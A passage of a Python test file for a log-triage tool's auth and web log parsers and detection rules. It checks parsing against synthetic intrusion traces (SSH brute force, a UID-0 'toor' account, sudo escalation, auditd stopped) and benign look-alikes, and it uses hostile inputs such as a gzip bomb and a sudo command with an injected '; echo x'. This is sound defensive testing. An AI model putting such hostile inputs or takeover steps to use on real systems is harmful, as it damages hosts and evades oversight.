"""logs.auth and logs.web: lines as rsyslog, sshd, sudo, su, shadow-utils, systemd, nginx and apache write
them, parsed into records; hostile files (garbage, a FIFO, a gzip bomb, huge lines) bounded; and every
rule of specs/rules/auth.yaml and web.yaml against a root that has the behaviour and one with its benign
look-alike (which must give nothing above low)."""

from __future__ import annotations

import datetime as dt
import gzip
import json
import os
import shutil
import tarfile
import time
from collections.abc import Iterable
from pathlib import Path

import fakeroot
import pytest
from conftest import run_triagent, summary_of

from agent.analysis import rules as engine
from collectors.base import Context, Problem, Record
from collectors.files import logs

UTC = dt.UTC
# the logs below are of early December 2026; their files were last written then
MTIME = dt.datetime(2026, 12, 6, 23, 0, tzinfo=UTC).timestamp()
NOW = dt.datetime(2026, 12, 7, 8, 0, tzinfo=UTC).timestamp()
ATTACKER = "45.155.205.233"  # public, routable
OTHER_PUBLIC = "91.240.118.172"
BASTION = "10.20.0.5"
FP_ADMIN = "SHA256:Xk2b7vY5n9Lw3m8QJqGfYhR1tBv6pP0sC4dA2eZ7uKo"
FP_OTHER = "SHA256:4pL0dQm3rT8vW2yZ6bN1cX5eF9gH7jK0aS3dU6iO2pE"
KERNEL = "[    0.000000] Linux version 6.1.0-28-amd64 (debian-kernel@lists.debian.org)"
RSYSLOG = '[origin software="rsyslogd" swVersion="8.2302.0" x-pid="{pid}" x-info="https://www.rsyslog.com"]'


# ---- building roots -----------------------------------------------------------------------------

def write(root: Path, path: str, lines: Iterable[str] | bytes, mtime: float = MTIME) -> Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    data = lines if isinstance(lines, bytes) else ("\n".join(lines) + "\n").encode()
    if path.endswith(".gz"):
        data = gzip.compress(data)
    target.write_bytes(data)
    os.utime(target, (mtime, mtime))
    return target


def zone(root: Path, name: str = "UTC") -> None:
    (root / "etc").mkdir(parents=True, exist_ok=True)
    shutil.copyfile(f"/usr/share/zoneinfo/{name}", root / "etc/localtime")


def syslog_time(moment: dt.datetime) -> str:
    """rsyslog's traditional timestamp: day padded with a space, no year."""
    return f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S}"


def at(day: int, hms: str) -> dt.datetime:
    h, m, s = (int(x) for x in hms.split(":"))
    return dt.datetime(2026, 12, day, h, m, s, tzinfo=UTC)


def line(moment: dt.datetime, tag: str, msg: str, host: str = "web1") -> str:
    return f"{syslog_time(moment)} {host} {tag}: {msg}"


def cron_sessions(first: dt.datetime, last: dt.datetime, host: str = "web1") -> list[tuple[dt.datetime, str]]:
    """Debian's hourly cron job, as every Debian auth.log has it: a pam session opened and closed."""
    out, moment, pid = [], first, 5000
    while moment <= last:
        out.append((moment, line(moment, f"CRON[{pid}]", "pam_unix(cron:session): session opened for user "
                                                          "root(uid=0) by (uid=0)", host)))
        out.append((moment, line(moment, f"CRON[{pid}]", "pam_unix(cron:session): session closed for user root",
                                 host)))
        moment += dt.timedelta(hours=1)
        pid += 7
    return out


def merged(*groups: Iterable[tuple[dt.datetime, str]]) -> list[str]:
    return [text for _, text in sorted((p for g in groups for p in g), key=lambda p: p[0])]


def syslog_span(first: dt.datetime, last: dt.datetime) -> list[tuple[dt.datetime, str]]:
    """A syslog that starts at ``first`` (rsyslog start) and has a line every 6 hours up to ``last``."""
    out = [(first, line(first, "rsyslogd", RSYSLOG.format(pid=488) + " start"))]
    moment = first + dt.timedelta(minutes=5)
    while moment <= last:
        out.append((moment, line(moment, "systemd[1]", "Starting apt-daily.service - Daily apt download "
                                                       "activities...")))
        moment += dt.timedelta(hours=6)
    return out


def accepted(moment: dt.datetime, user: str, ip: str, pid: int, fp: str | None = None) -> list[tuple[dt.datetime, str]]:
    what = f"publickey for {user} from {ip} port {40000 + pid % 20000} ssh2: ED25519 {fp}" if fp else \
        f"password for {user} from {ip} port {40000 + pid % 20000} ssh2"
    return [(moment, line(moment, f"sshd[{pid}]", f"Accepted {what}")),
            (moment, line(moment, f"sshd[{pid}]", f"pam_unix(sshd:session): session opened for user {user}(uid=1000) "
                                                  "by (uid=0)"))]


def wtmp(root: Path, logins: list[tuple[str, str, dt.datetime]]) -> None:
    data = b"".join(fakeroot._utmp(7, 3000 + i, f"pts/{i}", user, host, int(moment.timestamp()))
                    for i, (user, host, moment) in enumerate(logins))
    write(root, "/var/log/wtmp", data)


# ---- running the collectors and the rules --------------------------------------------------------

def collect(root: Path, which: str = "auth", **options) -> tuple[list[dict], list[Problem]]:
    ctx = Context(root=str(root), live=False, options=options)
    items = list(getattr(logs, which)(ctx))
    return [i.data for i in items if isinstance(i, Record)], [i for i in items if isinstance(i, Problem)]


def events(records: list[dict], kind: str | None = None) -> list[dict]:
    return [r for r in records if r.get("kind") == "event" and (kind is None or r["event"] == kind)]


RULES = {r.id: r for r in engine.load_rules() if r.origin in ("auth.yaml", "web.yaml")}


def findings(root: Path) -> list[dict]:
    streams = {"auth": collect(root, "auth")[0], "web_access": collect(root, "web")[0]}

    def rows(source: str):
        for number, record in enumerate(streams.get(source, []), 1):
            yield "source", f"triagent/artifacts/{source}.jsonl", number, record

    return list(engine.evaluate(list(RULES.values()), rows, NOW))


def by_rule(found: list[dict]) -> dict[str, list[dict]]:
    out: dict[str, list[dict]] = {}
    for f in found:
        out.setdefault(f["rule"], []).append(f)
    return out


def quiet(found: list[dict]) -> None:
    """A benign look-alike: nothing above low."""
    loud = [(f["rule"], f["severity"], f["summary"]) for f in found if f["severity"] not in ("low", "info")]
    assert not loud, loud


# ---- parsing -----------------------------------------------------------------------------------

def test_debian_auth_log_events(tmp_path):
    zone(tmp_path)
    d = at(6, "01:02:03")
    write(tmp_path, "/var/log/auth.log", [
        line(d, "sshd[2001]", "Invalid user admin from 45.155.205.233 port 40001"),
        line(d, "sshd[2001]", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                              "rhost=45.155.205.233"),
        line(d, "sshd[2001]", "Failed password for invalid user admin from 45.155.205.233 port 40001 ssh2"),
        line(d, "sshd[2003]", "message repeated 5 times: [ Failed password for root from 45.155.205.233 port 40003 "
                              "ssh2]"),
        line(d, "sshd[2004]", "error: maximum authentication attempts exceeded for root from 45.155.205.233 port "
                              "40004 ssh2 [preauth]"),
        line(d, "sshd[2005]", "Connection closed by authenticating user root 45.155.205.233 port 40005 [preauth]"),
        line(d, "sshd[2020]", f"Accepted publickey for alice from 10.20.0.5 port 51234 ssh2: ED25519 {FP_ADMIN}"),
        line(d, "sshd[2021]", "Accepted keyboard-interactive/pam for bob from 2a01:4f8:c2c:123::1 port 6000 ssh2"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update ; echo x"),
        line(d, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)"),
        line(d, "sudo", "     bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id"),
        line(d, "sudo", "     bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; "
                        "COMMAND=/bin/bash"),
        line(d, "su[3100]", "(to root) alice on pts/0"),
        line(d, "su[3100]", "pam_unix(su-l:session): session opened for user root(uid=0) by alice(uid=1000)"),
        line(d, "su[3101]", "FAILED SU (to root) bob on pts/1"),
        line(d, "groupadd[3001]", "group added to /etc/group: name=backup2, GID=1002"),
        line(d, "groupadd[3001]", "group added to /etc/gshadow: name=backup2"),
        line(d, "groupadd[3001]", "new group: name=backup2, GID=1002"),
        line(d, "useradd[3002]", "new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash, "
                                 "from=/dev/pts/0"),
        line(d, "usermod[3003]", "add 'backup2' to group 'sudo'"),
        line(d, "usermod[3003]", "add 'backup2' to shadow group 'sudo'"),
        line(d, "usermod[3004]", "change user 'backup2' UID from '1002' to '0'"),
        line(d, "passwd[3005]", "pam_unix(passwd:chauthtok): password changed for backup2"),
        line(d, "userdel[3006]", "delete user 'olduser'"),
        line(d, "systemd-logind[500]", "New session 7 of user alice."),  # not an event we keep: counted
        "\x00\x01garbage that is no syslog line",
    ])
    records, problems = collect(tmp_path)
    ev = events(records)
    failed = events(records, "ssh_failed")
    assert [(f["reason"], f["user"], f.get("invalid_user")) for f in failed] == [
        ("invalid_user", "admin", True), ("pam", None, None), ("password", "admin", True),
        ("password", "root", False), ("max_attempts", "root", False)]
    assert failed[3]["repeated"] == 5 and all(f["source_ip"] == ATTACKER and f["source_is_public"] for f in failed)
    assert failed[0]["time_utc"] == "2026-12-06T01:02:03Z" and failed[0]["year_inferred"] is True
    assert failed[0]["host"] == "web1" and failed[0]["program"] == "sshd" and failed[0]["pid"] == 2001
    assert failed[0]["path"] == "/var/log/auth.log" and failed[0]["line"] == 1
    disconnect = events(records, "ssh_disconnect")[0]
    assert disconnect["preauth"] is True and disconnect["user"] == "root"
    alice, bob = events(records, "ssh_accepted")
    assert (alice["method"], alice["key_type"], alice["fingerprint"], alice["source_ip"], alice["source_port"],
            alice["source_is_public"]) == ("publickey", "ED25519", FP_ADMIN, BASTION, 51234, False)
    assert bob["method"] == "keyboard-interactive/pam" and bob["source_is_public"] is True
    sudo = events(records, "sudo")[0]
    assert (sudo["user"], sudo["run_as"], sudo["tty"], sudo["pwd"], sudo["command"]) == \
        ("alice", "root", "pts/0", "/home/alice", "/usr/bin/apt update ; echo x")
    refused = events(records, "sudo_failed")
    assert [r["reason"] for r in refused] == ["user NOT in sudoers", "3 incorrect password attempts"]
    su = events(records, "su")[0]
    assert (su["user"], su["run_as"], su["tty"]) == ("alice", "root", "pts/0")
    assert events(records, "su_failed")[0]["user"] == "bob"
    session = [e for e in events(records, "session_opened") if e["service"] == "su-l"][0]
    assert (session["user"], session["by_user"], session["run_as"]) == ("root", "alice", "root")
    added = events(records, "user_added")[0]
    assert (added["user"], added["uid"], added["shell"], added["from_tty"], added["origin"]) == \
        ("backup2", 1002, "/bin/bash", "/dev/pts/0", "interactive")
    assert [g["group"] for g in events(records, "group_added")] == ["backup2"]  # told three times, kept once
    modified = events(records, "user_modified")
    assert [(m["change"], m.get("group"), m.get("uid")) for m in modified] == \
        [("group", "sudo", None), ("UID", None, 0)]
    assert events(records, "password_changed")[0]["user"] == "backup2"
    assert events(records, "user_deleted")[0]["user"] == "olduser"
    summary = [r for r in records if r["kind"] == "log_file"][0]
    assert summary["lines"] == 26 and summary["events"] == len(ev) == 21 and summary["unknown_lines"] == 4
    assert summary["unparsed_lines"] == 1 and summary["first_event_utc"] == "2026-12-06T01:02:03Z"
    assert not [p for p in problems if p.level == "error"]


def test_rfc3339_secure_log_and_local_time(tmp_path):
    """Ubuntu 24.04's rsyslog writes RFC 3339 high-precision stamps; RHEL's secure the traditional ones in
    local time: the host's own /etc/localtime (New York here) turns them into UTC."""
    zone(tmp_path, "America/New_York")
    write(tmp_path, "/var/log/secure", [
        "Dec  6 09:15:00 rhel9 sshd[812]: Accepted password for ec2-user from 45.155.205.233 port 5022 ssh2",
        "2026-12-06T09:16:00.123456-05:00 rhel9 sshd[813]: Failed password for root from 45.155.205.233 port 5023 ssh2",
    ])
    records, _ = collect(tmp_path)
    ok, failed = events(records, "ssh_accepted")[0], events(records, "ssh_failed")[0]
    assert ok["time_utc"] == "2026-12-06T14:15:00Z" and ok["year_inferred"] is True
    assert failed["time_utc"] == "2026-12-06T14:16:00.123456Z" and "year_inferred" not in failed
    family = [r for r in records if r["kind"] == "log_family"][0]
    assert family["time_zone"] == "/etc/localtime"


@pytest.mark.parametrize("damage", ["footer without its newline", "counts past the end", "garbage"])
def test_hostile_localtime_is_refused_not_hung(tmp_path, damage):
    """/etc/localtime is the host's: CPython's zoneinfo loops for ever on a TZif whose footer lacks its
    newline (and its C loader crashes on others). Such a zone is refused with a Problem and times are
    read as UTC, said so."""
    good = Path("/usr/share/zoneinfo/America/New_York").read_bytes()
    bad = {"footer without its newline": good[:-1] + b"8",
           "counts past the end": good[:20] + b"\x00\x00\x00\x06" * 3 + b"\x7f\xff\xff\xff" * 3 + good[44:200],
           "garbage": b"TZif2" + bytes(range(256)) * 8}[damage]
    write(tmp_path, "/etc/localtime", bad)
    write(tmp_path, "/var/log/auth.log", ["Dec  6 09:15:00 web1 sshd[812]: Accepted password for a from 10.0.0.1 "
                                          "port 5022 ssh2"])
    started = time.monotonic()
    records, problems = collect(tmp_path)
    assert time.monotonic() - started < 20
    assert any("/etc/localtime unusable" in p.message for p in problems), problems
    assert events(records, "ssh_accepted")[0]["time_utc"] == "2026-12-06T09:15:00Z"
    assert [r["time_zone"] for r in records if r["kind"] == "log_family"] == ["assumed UTC"]


def test_year_inferred_across_new_year(tmp_path):
    """A file last written in January holds December lines of the year before."""
    zone(tmp_path)
    january = dt.datetime(2027, 1, 2, 12, 0, tzinfo=UTC).timestamp()
    write(tmp_path, "/var/log/auth.log", [
        "Dec 31 23:59:58 web1 sshd[1]: Accepted password for alice from 10.0.0.9 port 5 ssh2",
        "Jan  1 00:00:02 web1 sshd[2]: Accepted password for alice from 10.0.0.9 port 6 ssh2",
    ], mtime=january)
    times = [e["time_utc"] for e in events(collect(tmp_path)[0], "ssh_accepted")]
    assert times == ["2026-12-31T23:59:58Z", "2027-01-01T00:00:02Z"]


def test_rotations_newest_first_within_budget(tmp_path):
    zone(tmp_path)
    for i, name in enumerate(["auth.log", "auth.log.1", "auth.log.2.gz", "auth.log.3.gz", "auth.log.bak"]):
        d = at(6 - i, "10:00:00")
        accept = line(d, f"sshd[{i}]", f"Accepted password for u{i} from 10.0.0.{i} port 22 ssh2")
        write(tmp_path, f"/var/log/{name}", [accept] + ["x" * 200] * 50, mtime=d.timestamp())
    records, problems = collect(tmp_path)
    files = [r["path"] for r in records if r["kind"] == "log_file"]
    assert files == ["/var/log/auth.log", "/var/log/auth.log.1", "/var/log/auth.log.2.gz", "/var/log/auth.log.3.gz"]
    assert [e["user"] for e in events(records, "ssh_accepted")] == ["u0", "u1", "u2", "u3"]  # never the .bak
    # a budget of two files' worth: the older ones are named, not read
    records, problems = collect(tmp_path, max_bytes=2 * (tmp_path / "var/log/auth.log").stat().st_size)
    assert len([r for r in records if r["kind"] == "log_file"]) == 2
    assert any("budget" in p.message for p in problems)
    family = [r for r in records if r["kind"] == "log_family"][0]
    assert family["budget_reached"] is True and family["unlogged_logins"] is None


def test_big_log_keeps_its_newest_end(tmp_path):
    """A log over max_file_bytes: its newest bytes are read, the partial first line dropped, and each
    record's offset points at its line in the file."""
    zone(tmp_path)
    path = write(tmp_path, "/var/log/auth.log", [
        line(at(6, "00:00:00") + dt.timedelta(minutes=i), f"sshd[{i}]", f"Accepted password for u{i} from 10.0.0.1 "
                                                                         "port 22 ssh2") for i in range(100)])
    records, _ = collect(tmp_path, max_file_bytes=1000)
    accepted_ = events(records, "ssh_accepted")
    assert accepted_ and accepted_[-1]["user"] == "u99" and len(accepted_) < 14
    data = path.read_bytes()
    for record in accepted_:
        assert data[record["offset"]:].startswith(syslog_time(dt.datetime.fromisoformat(
            record["time_utc"].replace("Z", "+00:00"))).encode())
    summary = [r for r in records if r["kind"] == "log_file"][0]
    assert summary["truncated"] is True and summary["unparsed_lines"] == 0


def test_rhel_dated_rotations(tmp_path):
    zone(tmp_path)
    write(tmp_path, "/var/log/secure", [line(at(6, "01:00:00"), "sshd[1]", "Accepted password for a from 10.0.0.1 "
                                                                          "port 1 ssh2", "rhel9")])
    write(tmp_path, "/var/log/secure-20261122.gz", [line(at(1, "01:00:00"), "sshd[2]", "Accepted password for c from "
                                                                                     "10.0.0.1 port 1 ssh2", "rhel9")])
    write(tmp_path, "/var/log/secure-20261129", [line(at(3, "01:00:00"), "sshd[3]", "Accepted password for b from "
                                                                                  "10.0.0.1 port 1 ssh2", "rhel9")])
    records, _ = collect(tmp_path)
    assert [e["user"] for e in events(records, "ssh_accepted")] == ["a", "b", "c"]


def test_hostile_files_are_bounded(tmp_path):
    zone(tmp_path)
    (tmp_path / "var/log").mkdir(parents=True)
    os.mkfifo(tmp_path / "var/log/auth.log")  # a FIFO is never opened for reading
    bomb = tmp_path / "var/log/auth.log.2.gz"
    with gzip.open(bomb, "wb", compresslevel=9) as fh:
        block = b"\0" * (1 << 20)
        for _ in range(256):  # 256 MiB of zeros in a few hundred KB
            fh.write(block)
    write(tmp_path, "/var/log/auth.log.1", b"A" * (3 << 20) + b"\n" + (line(
        at(6, "01:00:00"), "sshd[9]", "Accepted password for alice from 10.0.0.1 port 2 ssh2") + "\n").encode()
        + bytes(range(256)) * 64 + b"\n")
    started = time.monotonic()
    records, problems = collect(tmp_path, max_bytes=8 << 20, max_line_chars=4096)
    assert time.monotonic() - started < 30
    assert any("not a regular file" in p.message for p in problems), problems
    assert [e["user"] for e in events(records, "ssh_accepted")] == ["alice"]
    gz = [r for r in records if r.get("path") == "/var/log/auth.log.2.gz" and r["kind"] == "log_file"][0]
    assert gz["truncated"] is True and gz["events"] == 0
    assert sum(len(str(r)) for r in records) < 1 << 20


def test_record_caps_keep_what_matters(tmp_path):
    """A log full of password guessing fills at most half the records; sudo and account events stay."""
    zone(tmp_path)
    write(tmp_path, "/var/log/auth.log", merged(
        failures(ATTACKER, at(6, "01:00:00"), 300),
        [(at(6, "02:00:00"), line(at(6, "02:00:00"), "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
                                                             "COMMAND=/usr/bin/systemctl restart nginx"))],
        [(at(6, "02:01:00"), line(at(6, "02:01:00"), "useradd[3002]", "new user: name=support, UID=1002, "
                                                                      "GID=1002, home=/home/support, shell=/bin/bash, "
                                                                      "from=none"))]))
    records, problems = collect(tmp_path, max_records=100)
    assert len(events(records, "ssh_failed")) == 50
    assert events(records, "sudo") and events(records, "user_added")
    assert any("failed-login" in p.message for p in problems)


def test_gunzip_bounded_stops_a_bomb_and_reads_concatenated_members():
    bomb = gzip.compress(b"\0" * (64 << 20))
    data, complete, error = logs.gunzip_bounded(bomb, 1 << 20)
    assert len(data) == 1 << 20 and not complete and error is None
    data, complete, error = logs.gunzip_bounded(gzip.compress(b"a\n") + gzip.compress(b"b\n"), 1 << 20)
    assert data == b"a\nb\n" and complete
    data, complete, error = logs.gunzip_bounded(gzip.compress(b"x" * 1000)[:-20], 1 << 20)
    assert not complete


def test_messages_only_host_gives_auth_events(tmp_path):
    """No auth.log or secure (everything to /var/log/messages): the auth events come from there."""
    zone(tmp_path)
    write(tmp_path, "/var/log/messages", [
        line(at(6, "01:00:00"), "sshd[5]", "Accepted password for alice from 10.0.0.1 port 2 ssh2"),
        line(at(6, "01:00:05"), "kernel", KERNEL),
    ])
    records, _ = collect(tmp_path)
    assert sorted(e["event"] for e in events(records)) == ["boot", "ssh_accepted"]
    assert not [r for r in records if r["kind"] == "log_family"]  # no auth log to compare


def test_journald_only_host(tmp_path):
    """Debian 12 and Amazon Linux 2023 have no rsyslog: the events come from the journal files (written
    here by systemd's own systemd-journal-remote), and the rules see them the same way."""
    from test_journal import write_journal

    zone(tmp_path)
    start = int(at(6, "01:00:00").timestamp()) * 1_000_000
    entries = [("sshd", 7000 + i, f"Failed password for root from {ATTACKER} port {30000 + i} ssh2") for i in range(12)]
    entries += [("sshd", 7100, f"Accepted password for root from {ATTACKER} port 30100 ssh2"),
                ("useradd", 7200, "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"),
                ("systemd", 1, "Stopping auditd.service - Security Auditing Service..."),
                ("auditd", 640, "The audit daemon is exiting.")]
    write_journal(tmp_path / "var/log/journal/0123456789abcdef0123456789abcdef/system.journal", entries,
                  start_us=start, host="deb12")
    records, problems = collect(tmp_path)
    ok = events(records, "ssh_accepted")[0]
    assert (ok["user"], ok["source_ip"], ok["host"], ok["time_utc"]) == ("root", ATTACKER, "deb12",
                                                                         "2026-12-06T01:00:12Z")
    assert [r["family"] for r in records if r["kind"] == "log_file"] == ["journal"]
    found = by_rule(findings(tmp_path))
    assert {"TRI-AUTH-001", "TRI-AUTH-003", "TRI-AUTH-007"} <= set(found), sorted(found)


def test_web_access_logs(tmp_path):
    write(tmp_path, "/var/log/nginx/access.log", [
        '45.155.205.233 - - [06/Dec/2026:01:02:03 +0000] "GET /wp-login.php HTTP/1.1" 404 162 "-" '
        '"Mozilla/5.0 zgrab/0.x"',
        '10.20.0.7 - admin [06/Dec/2026:01:02:04 -0500] "POST /api/v1/items?id=7&x=%2Fetc HTTP/2.0" 201 12 '
        '"https://shop.example.com/" "Mozilla/5.0 (X11; Linux x86_64) \\"quoted\\""',
        '10.0.0.2 - - [06/Dec/2026:01:06:00 +0000] "\\x16\\x03\\x01\\x02\\x00\\x01\\x00" 400 166 "-" "-"',
        'not an access log line',
    ])
    write(tmp_path, "/var/log/apache2/access.log.1", [
        '91.240.118.172 - - [05/Dec/2026:22:00:00 +0100] "GET /index.html HTTP/1.0" 200 - ',  # common format
    ])
    write(tmp_path, "/var/log/apache2/other_vhosts_access.log", [
        'www.example.com:443 81.2.69.160 - - [06/Dec/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 3380 "-" "Mozilla/5.0"',
    ])
    write(tmp_path, "/var/log/httpd/access_log-20261129.gz", [
        '2a01:4f8:c2c:123::1 - - [29/Nov/2026:10:00:00 +0000] "HEAD / HTTP/1.1" 200 0 "-" "curl/8.0"',
    ])
    records, _ = collect(tmp_path, "web")
    requests = [r for r in records if r["kind"] == "request"]
    scan, api, tls, common, vhost, v6 = requests
    assert (vhost["vhost"], vhost["client_ip"], vhost["path"]) == ("www.example.com:443", "81.2.69.160", "/")
    assert (scan["client_ip"], scan["client_is_public"], scan["method"], scan["path"], scan["status"], scan["bytes"],
            scan["user_agent"], scan["referrer"], scan["log"]) == \
        (ATTACKER, True, "GET", "/wp-login.php", 404, 162, "Mozilla/5.0 zgrab/0.x", None, "/var/log/nginx/access.log")
    assert (api["time_utc"], api["query"], api["decoded"], api["remote_user"], api["client_is_public"]) == \
        ("2026-12-06T06:02:04Z", "id=7&x=%2Fetc", "/api/v1/items?id=7&x=/etc", "admin", False)
    assert api["user_agent"].endswith('"quoted"') and api["referrer"] == "https://shop.example.com/"
    assert tls["method"] is None and tls["request"].startswith("\\x16")
    assert common["time_utc"] == "2026-12-05T21:00:00Z" and common["bytes"] == 0 and common["user_agent"] is None
    assert v6["client_is_public"] is True and v6["log"] == "/var/log/httpd/access_log-20261129.gz"
    nginx = [r for r in records if r["kind"] == "log_file" and r["path"] == "/var/log/nginx/access.log"][0]
    assert nginx["lines"] == 4 and nginx["events"] == 3 and nginx["unparsed_lines"] == 1


# ---- rules: the behaviour and its benign look-alike -----------------------------------------------

def failures(ip: str, start: dt.datetime, n: int, user: str = "root", pid: int = 7000) -> list[tuple[dt.datetime, str]]:
    """What sshd logs for each guessed password: the PAM line, then "Failed password"."""
    out = []
    for i in range(n):
        moment = start + dt.timedelta(seconds=7 * i)
        invalid = "invalid user " if user not in ("root", "alice", "ubuntu") else ""
        if invalid:
            out.append((moment, line(moment, f"sshd[{pid + i}]", f"Invalid user {user} from {ip} port {30000 + i}")))
        out.append((moment, line(moment, f"sshd[{pid + i}]", "pam_unix(sshd:auth): authentication failure; logname= "
                                                            f"uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}")))
        out.append((moment, line(moment, f"sshd[{pid + i}]", f"Failed password for {invalid}{user} from {ip} port "
                                                            f"{30000 + i} ssh2")))
    return out


def test_guessed_password_then_success(tmp_path):
    zone(tmp_path)
    write(tmp_path, "/var/log/auth.log", merged(failures(ATTACKER, at(6, "01:00:00"), 40),
                                                accepted(at(6, "01:07:00"), "root", ATTACKER, 9100)))
    found = by_rule(findings(tmp_path))
    assert [f["severity"] for f in found["TRI-AUTH-001"]] == ["high"]
    assert found["TRI-AUTH-001"][0]["summary"] == (f"{ATTACKER}: 40 failed logins from 2026-12-06T01:00:00Z, then "
                                                   "root accepted (password) at 2026-12-06T01:07:00Z")


def test_internet_background_noise_is_quiet(tmp_path):
    """Thousands of guesses from many addresses, an admin's key from the bastion, a user who mistyped
    twice then got in from the office, and a scanner that succeeded nowhere."""
    zone(tmp_path)
    noise = [p for i in range(50) for p in failures(f"185.220.101.{i + 1}", at(6, "00:00:00") + dt.timedelta(
        minutes=i), 20, user=("admin", "oracle", "root", "test")[i % 4], pid=10000 + 100 * i)]
    write(tmp_path, "/var/log/auth.log", merged(
        noise, accepted(at(6, "02:00:00"), "alice", BASTION, 9200, FP_ADMIN),
        failures("81.2.69.160", at(6, "03:00:00"), 2, user="alice"), accepted(at(6, "03:00:30"), "alice",
                                                                              "81.2.69.160", 9300)))
    records, _ = collect(tmp_path)
    assert len(events(records, "ssh_failed")) > 2000
    quiet(findings(tmp_path))
    assert "TRI-AUTH-001" not in by_rule(findings(tmp_path))


def test_internal_key_used_from_the_internet(tmp_path):
    """An internal host: alice's key comes through the bastion every day, then once from the internet."""
    zone(tmp_path)
    write(tmp_path, "/var/log/auth.log", merged(
        *[accepted(at(d, "09:00:00"), "alice", BASTION, 9400 + d, FP_ADMIN) for d in range(1, 6)],
        accepted(at(6, "02:13:00"), "alice", OTHER_PUBLIC, 9401, FP_ADMIN)))
    found = by_rule(findings(tmp_path))
    assert [f["severity"] for f in found["TRI-AUTH-016"]] == ["medium"]
    assert found["TRI-AUTH-016"][0]["summary"] == (f"web1: key {FP_ADMIN} (5 logins from private addresses) accepted "
                                                   f"for alice from {OTHER_PUBLIC} at 2026-12-06T02:13:00Z")
    assert [f["severity"] for f in found["TRI-AUTH-002"]] == ["low"]
    assert found["TRI-AUTH-002"][0]["summary"] == (f"key {FP_ADMIN} accepted from {BASTION} (private) and from "
                                                   f"{OTHER_PUBLIC} (public, for alice)")


def test_keys_of_a_bastion_and_one_sided_keys_are_quiet(tmp_path):
    """A bastion: staff come from the office and home every day and through the VPN now and then; a CI
    deploy key always from the CI's public address; the admin key always through the VPN."""
    zone(tmp_path)
    write(tmp_path, "/var/log/auth.log", merged(
        *[accepted(at(d, "09:00:00"), "alice", OTHER_PUBLIC, 9500 + d, FP_ADMIN) for d in range(1, 7)],
        *[accepted(at(d, "20:00:00"), "alice", "81.2.69.160", 9510 + d, FP_ADMIN) for d in range(1, 4)],
        *[accepted(at(d, "12:00:00"), "alice", BASTION, 9520 + d, FP_ADMIN) for d in range(1, 5)],
        *[accepted(at(d, "10:00:00"), "deploy", ATTACKER, 9600 + d, FP_OTHER) for d in range(1, 6)],
        *[accepted(at(d, "11:00:00"), "bob", BASTION, 9700 + d, "SHA256:b0bK3yb0bK3yb0bK3yb0bK3yb0bK3yb0bK3yb0bK3y")
          for d in range(1, 6)]))
    quiet(findings(tmp_path))


def test_uid0_account_and_interactive_admin_accounts(tmp_path):
    zone(tmp_path)
    write(tmp_path, "/var/log/auth.log", [
        line(at(6, "02:00:00"), "useradd[3001]", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, "
                                                 "from=/dev/pts/1"),
        line(at(6, "02:01:00"), "useradd[3002]", "new user: name=support, UID=1002, GID=1002, home=/home/support, "
                                                 "shell=/bin/bash, from=/dev/pts/1"),
        line(at(6, "02:01:01"), "usermod[3003]", "add 'support' to group 'sudo'"),
        line(at(6, "02:01:01"), "usermod[3003]", "add 'support' to shadow group 'sudo'"),
        line(at(6, "02:01:30"), "useradd[3004]", "new user: name=systemd-netd, UID=998, GID=998, home=/var/lib/.n, "
                                                 "shell=/bin/bash, from=/dev/pts/1"),
        line(at(6, "02:02:00"), "passwd[3005]", "pam_unix(passwd:chauthtok): password changed for root"),
        line(at(6, "02:03:00"), "passwd[3006]", "pam_unix(passwd:chauthtok): password changed for alice"),
    ])
    found = by_rule(findings(tmp_path))
    assert [f["severity"] for f in found["TRI-AUTH-003"]] == ["high"] and "toor" in found["TRI-AUTH-003"][0]["summary"]
    # an ordinary account made from a terminal is low; putting it in sudo is the sign
    assert sorted((f["severity"], f["user"]) for f in found["TRI-AUTH-017"]) == [("low", "support"),
                                                                                 ("low", "systemd-netd")]
    assert sorted(f["summary"].split(" at ")[0] for f in found["TRI-AUTH-004"]) == \
        ["web1: user_added systemd-netd /bin/bash", "web1: user_modified support sudo"]
    assert found["TRI-AUTH-004"][0]["severity"] == "medium"
    assert any("systemd-netd" in f["summary"] for f in found["TRI-AUTH-004"])  # a "system" account with a shell
    assert found["TRI-AUTH-005"][0]["severity"] == "medium"
    assert [(f["severity"], f["user"]) for f in found["TRI-AUTH-006"]] == [("low", "alice")]


def test_cloud_init_first_boot_and_package_accounts_are_quiet(tmp_path):
    """What a cloud image writes at first boot (cloud-init makes ubuntu, puts it in sudo, sets a password)
    and what a package's postinst does (postgres with a login shell, _chrony without): origin says so."""
    zone(tmp_path)
    host = "ip-172-31-5-10"
    boot = [line(at(6, "00:00:41"), f"{prog}", msg, host) for prog, msg in [
        ("groupadd[612]", "group added to /etc/group: name=ubuntu, GID=1000"),
        ("groupadd[612]", "group added to /etc/gshadow: name=ubuntu"),
        ("groupadd[612]", "new group: name=ubuntu, GID=1000"),
        ("useradd[618]", "new user: name=ubuntu, UID=1000, GID=1000, home=/home/ubuntu, shell=/bin/bash, from=none"),
        ("usermod[625]", "add 'ubuntu' to group 'adm'"),
        ("usermod[625]", "add 'ubuntu' to shadow group 'adm'"),
        ("usermod[625]", "add 'ubuntu' to group 'sudo'"),
        ("usermod[625]", "add 'ubuntu' to shadow group 'sudo'"),
        ("chpasswd[640]", "pam_unix(chpasswd:chauthtok): password changed for ubuntu"),
    ]]
    package = [line(at(6, "03:30:04"), prog, msg, host) for prog, msg in [
        ("groupadd[4021]", "new group: name=postgres, GID=122"),
        ("useradd[4027]", "new user: name=postgres, UID=114, GID=122, home=/var/lib/postgresql, shell=/bin/bash, "
                          "from=none"),
